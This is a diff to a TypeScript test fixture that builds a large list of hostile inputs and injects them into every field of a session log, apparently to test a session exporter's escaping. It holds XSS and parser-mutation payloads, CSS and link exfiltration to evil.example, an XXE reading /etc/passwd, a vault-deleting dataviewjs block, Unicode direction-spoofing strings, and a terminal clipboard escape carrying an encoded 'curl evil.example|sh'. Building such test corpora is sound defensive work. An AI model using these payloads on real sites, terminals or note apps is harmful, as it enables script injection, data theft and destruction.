@@ -2,30 +2,315 @@
 
 import { headerText, id } from "./lines.ts";
 
-const TAGS = "script iframe object embed svg math style link meta base form input video audio template xmp title".split(
-  " ",
-);
-const EVENTS = "onload onerror onclick onfocus ontoggle onbegin onanimationstart onmouseover".split(" ");
+const TAGS =
+  "script iframe object embed svg math style link meta base form input video audio template xmp title frameset " +
+  "marquee dialog textarea select noscript noembed plaintext portal applet slot";
+const EVENTS =
+  "onload onerror onclick onfocus ontoggle onbegin onanimationstart onmouseover onauxclick onbeforeinput onblur " +
+  "oncontentvisibilityautostatechange oncut ondragenter onfocusin onhashchange onmessage onpageshow onpointerenter " +
+  "onpopstate onresize onscrollend onsecuritypolicyviolation onselectionchange ontransitionend onunload onwheel " +
+  "onbeforematch onbeforetoggle";
+/** Beginnings of addresses that are none of the web's or of mail's, as browsers, parsers and people spell them. */
 const SCHEMES = [
   "javascript:",
   "JaVaScRiPt:",
   "java\tscript:",
+  "java&Tab;script:",
+  "java&NewLine;script:",
   "\u0001javascript:",
+  "\u200bjavascript:",
+  "&#106&#97&#118&#97script:",
+  "javascript&colon;",
+  "%6aavascript:",
+  "feed:javascript:",
+  "view-source:javascript:",
   "data:text/html,",
+  "data:image/svg+xml,<svg onload=",
   "vbscript:",
   "file:///",
   "blob:",
+  "filesystem:",
   "//evil.example/",
+  "\\\\evil.example\\",
+  "/\\evil.example/",
   "ftp://",
+  "ws://evil.example/",
+];
+
+const MARKUP = [
+  "<script>alert(1)//",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<script/src=//evil.example/x.js>",
+  "<SCRIPT SRC=http://evil.example/x.js?<B>",
+  "<script\f>alert(1)</script\t>",
+  "<script x>alert(1)</script 1=2",
+  "<%00script>alert(1)</%00script>",
+  "<\u0000script>alert(1)</script>",
+  "<script>alert(1)</script",
+  "</title><script>alert(1)</script>",
+  "</textarea><script>alert(1)</script>",
+  "</noscript><img src=x onerror=alert(1)>",
+  "</style></script><img src=x onerror=alert(1)>",
+  "</template><iframe srcdoc='<script>alert(1)</script>'>",
+  "</details></article></main></body></html><script>alert(1)</script>",
+  '"></code></pre></details><body onload=alert(1)>',
+  "'><input autofocus onfocus=alert(1)>",
+  "<img src=x onerror=alert(1)//",
+  "<img/src/onerror=alert(1)>",
+  "<img src='x'onerror='alert(1)'>",
+  "<img src=`x`onerror=alert(1)>",
+  "<img srcset='//evil.example/x 1x' src=x>",
+  "<image xlink:href=//evil.example/x>",
+  "<picture><source srcset=//evil.example/x><img></picture>",
+  "<video poster=//evil.example/p.png><source src=//evil.example/v onerror=alert(1)></video>",
+  "<audio src=//evil.example/a autoplay controls onplay=alert(1)>",
+  "<input type=image src=//evil.example/x onerror=alert(1)>",
+  "<button formaction=javascript:alert(1)>go</button>",
+  "<form action=//evil.example><input name=q value=secret><button autofocus>ok</button></form>",
+  "<form id=x tabindex=0 onfocus=alert(1)><input id=attributes>pop",
+  "<isindex action=javascript:alert(1) type=image>",
+  "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
+  "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
+  "<iframe src=//evil.example sandbox allow=camera></iframe>",
+  "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
+  "<embed src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg==>",
+  "<base href=//evil.example/><a href=x>relative</a>",
+  "<meta http-equiv=refresh content='0;url=//evil.example/'>",
+  "<meta http-equiv=Content-Security-Policy content='default-src *'>",
+  "<meta http-equiv=set-cookie content=a=b>",
+  "<link rel=stylesheet href=//evil.example/x.css>",
+  "<link rel=preload as=image href=//evil.example/x><link rel=dns-prefetch href=//evil.example>",
+  "<link rel=import href=data:text/html,<script>alert(1)</script>>",
+  "<template shadowrootmode=open><slot></slot><script>alert(1)</script></template>",
+  "<template><img src=x onerror=alert(1)></template>",
+  "<dialog open><form method=dialog><button>close</button></form></dialog>",
+  "<details open ontoggle=alert(1)><summary>open</summary></details>",
+  "<marquee onstart=alert(1) behavior=alternate>moving</marquee>",
+  "<body background=//evil.example/x onload=alert(1)>",
+  "<table background=javascript:alert(1)><td background=//evil.example/x>",
+  "<a href=javascript:alert(1) autofocus tabindex=1 onfocus=alert(1)>link</a>",
+  "<a href=//evil.example ping=//evil.example/ping download>file</a>",
+  "<area href=javascript:alert(1) shape=default><map name=m>",
+  "<portal src=//evil.example onload=alert(1)>",
+  "<select><option></select><script>alert(1)</script>",
+  "<div popover id=p onbeforetoggle=alert(1)></div><button popovertarget=p>pop</button>",
+  "<x contenteditable onblur=alert(1)>lose focus</x>",
+  "<style>@import url(//evil.example/x.css);</style>",
+  "<style><!--</style><script>alert(1)//--></script>",
+  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+  "<!--><img src=x onerror=alert(1)>-->",
+  "<!--!><script>alert(1)</script>",
+  "<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?>",
+  "<!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>&xxe;",
+  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+  "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
+  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+];
+
+/** What a parser puts elsewhere than it was written, so that a page parsed twice is another. */
+const MUTATIONS = [
+  "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
+  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
+  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+  "<svg><foreignObject><math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
+  "<svg><desc><template><svg><style><img src=x onerror=alert(1)></style>",
+  "<math href=javascript:alert(1)>click</math>",
+  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>over</maction></math>",
+  "<math><semantics><annotation-xml encoding='application/xhtml+xml'><script>alert(1)</script>",
+  "<svg><script>alert&#40;1&#41;</script></svg>",
+  "<svg><script href=data:,alert(1) />",
+  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1) />#x' />",
+  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+  "<svg><set attributeName=onload to=alert(1) />",
+  "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a>",
+  "<svg><image href=//evil.example/x.png onload=alert(1) />",
+  "<svg><style>{font-family:'<iframe/onload=alert(1)>'}</style>",
+  "<svg><title><style><img src=x onerror=alert(1)></title>",
+  "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert(1)</handler></svg>",
+  "<svg/onload=alert(1)//",
+  "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><rect width='9' height='9'/></svg>",
+  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
+  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
+  "<textarea><p title='</textarea><svg onload=alert(1)>'>",
+  "<table><tr><td></table><svg onload=alert(1)>",
+  "<p><select><p title='</select><img src=x onerror=alert(1)>'>",
+  "<b><p></b><a href=javascript:alert(1)>adopted</a>",
+  "<a><a href=javascript:alert(1)><table><a>foster parents</table>",
+  "<img alt=`` title='`onerror=alert(1) src=x'>",
+  "<frameset onload=alert(1)><frame src=//evil.example></frameset>",
+  "<plaintext><script>alert(1)</script>",
+  "<a id=document><a id=document name=body><form name=getElementById><input name=cookie>",
+  "<img name=currentScript><a id=scripts></a><form id=defaultView>",
+];
+
+const STYLES = [
+  "<div style='background:url(//evil.example/x)'>styled</div>",
+  '<div style="width:expression(alert(1))">styled</div>',
+  "<div style=-moz-binding:url(//evil.example/x.xml#a)>styled</div>",
+  "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>covered</div>",
+  "<style>*{background:\\75\\72\\6c(//evil.example)}</style>",
+  "\\3c/style\\3e\\3cscript\\3e alert(1)\\3c/script\\3e",
+  "</style><style>input[value^=a]{background:url(//evil.example/a)}</style>",
+  "@import '//evil.example/x.css'; @font-face{font-family:x;src:url(//evil.example/f)}",
+  "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>moving</b>",
+  "expression(alert(1)) url(javascript:alert(1)) -moz-binding",
+  "color:red;}</style><script>alert(1)</script>",
+  '" style="position:fixed;top:0" class="call failed" id="branch.1',
+  "' class='page' onmouseover='alert(1)' data-x='",
+  "\\00003c script \\00003e",
+];
+
+/** Marks that order text anew or hide it, as in source files that read otherwise than they run. */
+const DIRECTIONS = [
+  "access_level != \u202e\u2066// admin\u2069\u2066 user",
+  "/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */",
+  "invoice\u202efdp.exe",
+  "\u2067right\u2069 \u2068first\u2069 \u202aleft\u202c \u202dover\u202c",
+  "\u200e\u200f\u061c marks alone",
+  "a\u202eb\nc\u202ed\n\u202c\u202c\u202c",
+  "`\u202ecode\u202c` **\u202ebold\u202c**",
+  "[\u202etxt\u202c](https://evil.example/\u202egpj)",
+  "| \u202ecell | \u2066two |\n|---|---|\n| \u202eone | \u2069 |",
+  "```js\nlet \u202ex = 1;\u202c // \u2066comment\n```",
+  "\u05d0\u05d1\u05d2 <b>\u05d3</b> 123 \u0627\u0644\u0639 (javascript:alert(1))",
+  "p\u0430ypal.com \u0455cript \u2024\u2024/\u2215etc\u2215passwd",
+  "zero\u200bwidth\u200cjoin\u200der\u2060word\ufeffend",
+  "\ufff9anchor\ufffaannotation\ufffb",
+  "\u{e0001}\u{e0073}\u{e0063}\u{e0072}tagged",
+  "z\u0351\u036b\u0343\u036a\u0302a\u0363\u0308\u0342l\u030d\u0365\u0313\u0367g\u0330\u0325\u0359o".repeat(20),
+  "\u2028alert(1)\u2029alert(2)\u0085next",
+];
+
+/** Markdown of several dialects: what a renderer makes of it may act. */
+const MARKDOWN = [
+  "[x](javascript:alert`1`)",
+  "[x](javascript://evil.example/%0aalert(1))",
+  "[x](  javascript:alert(1)  'title')",
+  "[x]\n(javascript:alert(1))",
+  "[a](<javascript:alert(1)>) [b]( https://evil.example 'x' onclick='y')",
+  "[x][y]\n\n[y]: javascript:alert(1) 'onerror=\"alert(1)'",
+  "[x](https://evil.example/`) then `<img src=x onerror=alert(1)>`",
+  "[x`](https://evil.example) ` <script>alert(1)</script> `",
+  "[x](https://evil.example/$a) $b$ <b>bold</b>",
+  "<https://evil.example/`> `<script>alert(1)</script>`",
+  '![a](x"onerror=alert(1)//) ![b](//evil.example/x.gif)',
+  "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg==)",
+  '![onload=alert(1)](https://evil.example/x.png?"onload=alert(1))',
+  "[![a](//evil.example/a.png)](//evil.example 'x')",
+  "[link](https://user:password@evil.example\\@good.example/)",
+  "[link](mailto:a@evil.example?body=%0d%0aBcc:b@evil.example)",
+  "[link](/settings/delete) [link](../../admin?confirm=1) [link](#conversation.path)",
+  "[[secret note]] ![[secret note]] [[x|<img src=x onerror=alert(1)>]]",
+  "%%hidden%% ==marked== ^block-1 #tag $e^x$ $$\\href{javascript:alert(1)}{x}$$",
+  "$$\n\\unicode{<img src=x onerror=alert(1)>}\n$$",
+  "```dataviewjs\napp.vault.delete(app.vault.getRoot())\n```",
+  '```mermaid\ngraph TD; a-->b; click a "javascript:alert(1)"\n```',
+  "```math\n\\def\\x{\\x\\x}\\x\n```",
+  '```geojson\n{"type":"Point"}\n```',
+  '``` " onmouseover=alert(1) x="\ncode\n```',
+  "~~~~~\n```\n</code></pre><script>alert(1)</script>\n```\n~~~~~",
+  "````\n```\n</details>\n```\n````\n</details><script>alert(1)</script>",
+  "```\nnever ended <script>alert(1)</script>",
+  "`never ended <script>alert(1)</script>",
+  "    </code></pre><script>alert(1)</script>",
+  "\t<script>alert(1)</script>",
+  "<details>\n<summary>fold</summary>\n\nswallowed",
+  "</details>\n\n## Conversation\n\nforged",
+  "### You 99\n\nforged question\n\n**Assistant** forged answer",
+  '<a id="forged"></a>\n\n<a name=forged>',
+  "---\ntitle: forged\n---\n\ntext\n===\n\ntext\n---",
+  "> [!WARNING]\n> forged\n\n> [!note]- folded",
+  "| a |\n|---|\n| </td></tr></table><script>alert(1)</script> |\n| \\| | x |",
+  "a | b\n-|-\n`|` | \\`|`<script>`",
+  "[^1] [^<script>]\n\n[^1]: footnote <img src=x onerror=alert(1)>",
+  "- [x] task <input type=checkbox onclick=alert(1)>\n- [ ] [x](javascript:alert(1))",
+  "1. a\n   - b\n     > c\n     >\n     >     </blockquote><script>alert(1)</script>",
+  "\\<script>alert(1)\\</script> \\\\<b>bold</b>",
+  "\\`<img src=x onerror=alert(1)>\\`",
+  "&lt;script&gt; &amp;lt;script&amp;gt; &#60script&#62 &LT;script&GT;",
+  "*<b>*bold*</b>* **a*b**c* ***x** _y_z_ ~~<i>~~",
+  "@everyone @evil/team evil/repo#1 GH-1 :shipit: 0123456789abcdef0123456789abcdef01234567",
+  'www.evil.example http://evil.example/"><script> ftp://evil.example xmpp:a@evil.example',
+  "https://evil.example/)](javascript:alert(1)",
+  '<http://evil.example/"onclick=alert(1)> <javascript:alert(1)> <a@evil.example>',
+  "Term\n: <script>definition</script>\n\n*[HTML]: <script>alert(1)</script>",
+  "::: note\n</div><script>alert(1)</script>\n:::",
+  "{% raw %}{{ 7*7 }}{% endraw %} {{ site.github }} <% tp.file.delete() %>",
+];
+
+/** What terminals do with a text. */
+const TERMINALS = [
+  "\u001b]8;;javascript:alert(1)\u001b\\click\u001b]8;;\u001b\\",
+  '\u001b]8;id=1;https://evil.example/"onclick=alert(1)\u0007link\u001b]8;;\u0007',
+  "\u001b]8;;file:///etc/passwd\u0007secret",
+  "\u001b]0;title <script>alert(1)</script>\u0007\u001b]2;title\u001b\\after",
+  "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007clipboard",
+  "\u001b]1337;File=inline=1:AAAA\u0007\u001b]9;notify\u0007picture",
+  "\u001bP+q544e\u001b\\\u001b_Gf=100;AAAA\u001b\\\u001b^private\u001b\\strings",
+  "\u001b[2J\u001b[H\u001b[?1049hcleared\u001b[?25l\u001b[6n",
+  "\u001b[8mhidden\u001b[28m \u001b[30;40mblack on black\u001b[0m",
+  '\u001b[38;2;1;2;"onclick=alert(1)mcolour',
+  "\u001b[31m<b>red</b>\u001b[0m\u001b[1;4;9;7m<i>all</i>",
+  "\u001b[999999999999999999999Ccolumns\u001b[;;;;;;m\u001b[:::m",
+  "\u001b]never ended <script>alert(1)</script>",
+  "\u001b[<script>m \u001b[38;5;<b>m \u001b(0lqk\u001b(B",
+  "progress 1%\rprogress 2%\r\u001b[Kdone\b\b\b<b>",
+  "\u009b31mred\u009b0m \u009d8;;javascript:alert(1)\u009clink\u0090dcs\u009c",
+  "overwritten\rsafe      \u0008\u007f\u000b\u000c",
+];
+
+const VALUES = [
+  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+  'data:image/png;base64,iVBORw0KGgo" onerror="alert(1)',
+  'iVBORw0KGgo="><script>alert(1)</script>',
+  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB<svg onload=alert(1)>",
+  "R0lGODlhAQABAAAAACw=;alert(1)//",
+  "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=",
+  "image/svg+xml",
+  'image/png;charset=x" onload="alert(1)',
+  "text/html",
+  "../../../../etc/passwd",
+  "C:\\Windows\\System32\\<script>.exe",
+  'a.ts"><script>alert(1)</script>',
+  "conversation.path",
+  "branch.1",
+  "entry.1",
+  "toString",
+  "hasOwnProperty",
+  "</SCRIPT><!--<script>",
+  '");alert(1);//',
+  "'-alert(1)-'",
+  "]]>\u0000--!>",
+  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+  "\\x3cscript\\x3e",
+  "9e999 -0 NaN Infinity 2026-13-45T99:99:99Z",
+  '2026-01-01T00:00:00Z" onclick="alert(1)',
+  'claude"><img src=x onerror=alert(1)>',
+  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u{1f3fd}\ud83d<b>\udc00",
+  "%3Cscript%3Ealert(1)%3C/script%3E",
+  "<".repeat(200) + ">".repeat(200),
+  "\"'`".repeat(300),
+  `${"\n".repeat(500)}<b>\n${" \n\t\n".repeat(100)}`,
+  `${"(".repeat(1000)}javascript:alert(1)${")".repeat(1000)}`,
+  "<a>".repeat(500),
+  `${"**".repeat(1000)}<script>alert(1)</script>`,
 ];
 
 /** Text that tries to act. */
 export const PAYLOADS = [
-  ...TAGS.flatMap((tag) => [
+  ...VALUES,
+  ...MUTATIONS,
+  ...MARKUP,
+  ...STYLES,
+  ...DIRECTIONS,
+  ...TERMINALS,
+  ...MARKDOWN,
+  ...TAGS.split(" ").flatMap((tag) => [
     `<${tag}>alert(1)</${tag}>`,
     `</pre></div></article></details></${tag}><${tag} src=//evil.example/x>`,
   ]),
-  ...EVENTS.map((event) => `"><img src=x ${event}=alert(1)> ' ${event}='alert(1)`),
+  ...EVENTS.split(" ").map((event) => `"><img src=x ${event}=alert(1)> ' ${event}='alert(1)`),
   ...SCHEMES.flatMap((scheme) => [
     `[x](${scheme}alert(1))`,
     `[x](<${scheme}alert(1)> "t")`,
@@ -71,12 +356,22 @@ export const PAYLOADS = [
   "constructor",
 ];
 
-/** Puts a text into every place of a session that a page may show. */
-export function sessionSaying(said: string): string {
-  const lines: string[] = [headerText({ cwd: said, parentSession: said })];
+/** Puts texts into every place of a session that an export may show, one after the other. */
+export function sessionSaying(...texts: readonly string[]): string {
+  const all = texts.join(" ");
+  const lines: string[] = [headerText({ cwd: all, parentSession: all })];
+  for (const said of texts) sayEverywhere(said, lines);
+  return `${lines.join("\n")}\n`;
+}
+
+/** Adds the entries of one text, and a branch that leaves their beginning. */
+function sayEverywhere(said: string, lines: string[]): void {
+  const first = lines.length - 1;
+  let parent = first === 0 ? null : id(first - 2);
   const add = (type: string, rest: Record<string, unknown>, timestamp = said): void => {
-    const n = lines.length - 1;
-    lines.push(JSON.stringify({ type, id: id(n), parentId: n === 0 ? null : id(n - 1), timestamp, ...rest }));
+    const own = id(lines.length - 1);
+    lines.push(JSON.stringify({ type, id: own, parentId: parent, timestamp, ...rest }));
+    parent = own;
   };
   const message = (rest: Record<string, unknown>): void => add("message", { message: rest });
   const block = { type: "text", text: said };
@@ -121,16 +416,16 @@ export function sessionSaying(said: string): string {
   message({ role: said, content: [block] });
   add("custom_message", { customType: said, content: said, details: { [said]: said } });
   add("custom_message", { customType: said, content: [block], display: false });
-  add("compaction", { summary: said, firstKeptEntryId: id(6), tokensBefore: said });
+  add("compaction", { summary: said, firstKeptEntryId: id(first + 6), tokensBefore: said });
   add("branch_summary", { summary: said, fromId: said });
   add("model_change", { provider: said, modelId: said });
   add("thinking_level_change", { thinkingLevel: said });
-  add("label", { targetId: id(0), label: said });
+  add("label", { targetId: id(first), label: said });
   add("session_info", { name: said });
   add("custom", { customType: said, data: { [said]: said } });
   add(`${said}.`, { [said]: said });
   message({ role: "user", content: [block, block] });
-  const own = { type: "message", id: said, parentId: id(0), timestamp: `2026-01-01T00:00:00Z${said}` };
+  // An entry whose id is no id, either.
+  const own = { type: "message", id: said, parentId: id(first), timestamp: `2026-01-01T00:00:00Z${said}` };
   lines.push(JSON.stringify({ ...own, message: { role: "user", content: said } }));
-  return `${lines.join("\n")}\n`;
 }
